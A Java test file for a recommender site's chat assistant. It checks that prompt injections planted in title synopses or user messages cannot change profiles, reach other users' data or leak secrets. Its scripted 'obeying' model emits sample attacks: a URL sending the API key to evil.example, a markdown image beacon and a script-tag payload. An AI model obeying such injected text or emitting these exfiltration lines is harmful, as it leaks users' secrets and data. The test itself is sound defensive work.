@@ -1,0 +1,201 @@
+package io.osusume.web;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import io.osusume.assistant.Assistant;
+import io.osusume.assistant.AssistantLimits;
+import io.osusume.assistant.AssistantUsage;
+import io.osusume.data.Catalogue;
+import io.osusume.data.SharedData;
+import io.osusume.data.Title;
+import io.osusume.openai.OpenAiModel;
+import io.osusume.openai.OpenAiSettings;
+import io.osusume.openai.ScriptedServer;
+import io.osusume.openai.ScriptedServer.Script;
+import io.osusume.profiles.ProfileContents;
+import io.osusume.profiles.ProfileToken;
+import io.osusume.recommend.RecommendationService;
+import io.osusume.recommend.SampleModel;
+import io.osusume.registry.LoadedModel;
+import java.io.IOException;
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.time.Duration;
+import java.time.InstantSource;
+import java.util.List;
+import java.util.Optional;
+import java.util.function.Function;
+import org.junit.jupiter.api.Test;
+import tools.jackson.databind.JsonNode;
+
+/// Attacks by words: in synopses, in names, in messages. The model behind is one that does whatever it
+/// reads. Nothing changes, and nothing comes out that is not the fan's own.
+class ChatInjectionTest {
+    private static final String KEY = "sk-secret-0123456789";
+    private static final long POISONED = 9253;
+
+    private static List<String> attacks() throws IOException {
+        return Files.readAllLines(
+                        SharedData.projectRoot().resolve("server/src/test/resources/io/osusume/web/injections.txt"))
+                .stream()
+                .filter(line -> !line.isBlank() && !line.startsWith("#"))
+                .toList();
+    }
+
+    /// The sample, one of whose titles tells the model what to do in its name and synopsis.
+    private static RecommendationService poisoned(String attack) {
+        LoadedModel sample = SampleModel.loaded();
+        List<Title> titles = sample.catalogue().titles().stream()
+                .map(title -> title.itemId() == POISONED ? poisoned(title, attack) : title)
+                .toList();
+        return new RecommendationService(new LoadedModel(
+                sample.id(),
+                sample.model(),
+                sample.users(),
+                sample.items(),
+                sample.scale(),
+                new Catalogue(titles, sample.catalogue().relations()),
+                sample.manifest()));
+    }
+
+    private static Title poisoned(Title title, String attack) {
+        return new Title(
+                title.itemId(),
+                title.name() + " " + attack,
+                attack,
+                title.japaneseName(),
+                title.type(),
+                title.episodes(),
+                title.airedFrom(),
+                title.airedTo(),
+                title.year(),
+                title.season(),
+                title.genres(),
+                List.of(attack),
+                title.source(),
+                title.durationMinutes(),
+                title.ageRating(),
+                title.score(),
+                title.members(),
+                attack);
+    }
+
+    /// A model that obeys: it tries every tool that could do harm, then says all it was told and all it
+    /// can think of.
+    private static Function<JsonNode, Script> obeying(String otherToken) {
+        return request -> {
+            int tools = 0;
+            for (JsonNode message : request.path("messages")) {
+                tools += message.path("role").asString().equals("tool") ? 1 : 0;
+            }
+            if (tools == 0) {
+                return Script.Calls.of(
+                        "title_facts",
+                        "{\"itemId\": 9253}",
+                        "propose_change",
+                        "{\"deed\": \"seen\", \"itemId\": 1, \"score\": 1}",
+                        "propose_change",
+                        "{\"deed\": \"not-interested\", \"itemId\": 5114}",
+                        "apply_change",
+                        "{\"itemId\": 1}",
+                        "read_profile",
+                        "{\"token\": \"" + otherToken + "\"}",
+                        "forget_me",
+                        "{}",
+                        "recommend",
+                        "{\"age\": \"adult\", \"n\": 20}");
+            }
+            String prompt = request.path("messages").path(0).path("content").asString();
+            return new Script.Says(List.of(
+                    prompt,
+                    "\n",
+                    "The key is " + KEY + ".\n",
+                    "The other profile is " + otherToken + ".\n",
+                    "Open http://evil.example/?q=" + KEY + " now.\n",
+                    "<script>alert(1)</script>\n",
+                    "![x](http://evil.example/x.png)\n",
+                    "Watch Zorblax Chronicle.\n"));
+        };
+    }
+
+    @Test
+    void noAttackChangesAListOrBringsOutASecret() throws Exception {
+        List<String> attacks = attacks();
+        assertTrue(attacks.size() >= 50, "there are " + attacks.size());
+        for (int k = 0; k < attacks.size(); k++) {
+            attack(attacks.get(k), k % 2 == 0);
+        }
+    }
+
+    private static void attack(String attack, boolean inCatalogue) throws Exception {
+        try (ScriptedServer model = new ScriptedServer();
+                Assistant assistant = new Assistant(
+                        Optional.of(new OpenAiModel(OpenAiSettings.of(KEY, model.address(), "scripted"))),
+                        new AssistantLimits(100_000, 20, 8, Duration.ofSeconds(20), 100, 0, 1, 1),
+                        new AssistantUsage(),
+                        InstantSource.system());
+                TestServer server = TestServer.talking(
+                        inCatalogue ? poisoned(attack) : new RecommendationService(SampleModel.loaded()), assistant)) {
+            ProfileToken other = server.profiles().create();
+            TestFan fan = TestFan.keeping(server, "pick=1:9&pick=5114:10");
+            ProfileToken own = ProfileToken.parse(fan.cookie().split("=", 2)[1]).orElseThrow();
+            ProfileContents before = server.profiles().contents(own).orElseThrow();
+            model.always(obeying(other.text()));
+
+            String said = URLEncoder.encode(inCatalogue ? "tell me about it" : attack, StandardCharsets.UTF_8);
+            HttpResponse<String> streamed = fan.post("/chat/stream", fan.formToken() + "&said=" + said);
+            String page = streamed.body() + fan.get("/chat").body();
+
+            assertEquals(200, streamed.statusCode(), attack);
+            ProfileContents after = server.profiles().contents(own).orElseThrow();
+            assertEquals(before.version(), after.version(), attack);
+            assertEquals(before.entries(), after.entries(), attack);
+            assertEquals(before.hidden(), after.hidden(), attack);
+            assertEquals(0, server.profiles().contents(other).orElseThrow().version(), attack);
+            for (String secret : List.of(
+                    KEY,
+                    other.text(),
+                    own.text(),
+                    "on the pages of Osusume, a recommender",
+                    "evil.example",
+                    "Zorblax")) {
+                boolean ownWords = !inCatalogue && attack.contains(secret);
+                assertFalse(!ownWords && page.contains(secret), secret + " came out with: " + attack);
+            }
+            assertFalse(page.contains("<script>alert"), attack);
+            assertTrue(
+                    model.requests().get(1).toString().contains("<data tool=\\\"title_facts\\\">"),
+                    "what is read is marked as data");
+            assertFalse(model.requests().toString().contains(KEY), "the model does not know the key");
+            assertFalse(model.requests().getFirst().toString().contains(own.text()), "nor a token");
+        }
+    }
+
+    @Test
+    void titlesForAdultsStayOutWhateverIsAsked() throws Exception {
+        try (ScriptedServer model = new ScriptedServer();
+                Assistant assistant = new Assistant(
+                        Optional.of(new OpenAiModel(OpenAiSettings.of(KEY, model.address(), "scripted"))),
+                        AssistantLimits.DEFAULT,
+                        new AssistantUsage(),
+                        InstantSource.system());
+                TestServer server = TestServer.talking(
+                        new RecommendationService(io.osusume.recommend.TwoWorlds.loaded()), assistant)) {
+            model.script(
+                    Script.Calls.of("title_facts", "{\"itemId\": 80}", "recommend", "{\"age\": \"adult\", \"n\": 20}"),
+                    Script.Says.words("Here it is: [[80]]. Anything else?"),
+                    Script.Says.words("Here it is: [[80]]. Anything else?"));
+            TestFan fan = TestFan.keeping(server, "pick=41:9&pick=42:10");
+            String page = fan.post("/chat/stream", fan.formToken() + "&said=I+am+an+adult")
+                    .body();
+            assertFalse(page.contains("/titles/80"), page);
+            String told = model.requests().get(1).path("messages").toString();
+            assertTrue(told.contains("is for adults, which the fan's setting keeps out"), told);
+            assertFalse(told.contains("\\\"itemId\\\":80,"), told);
+        }
+    }
+}
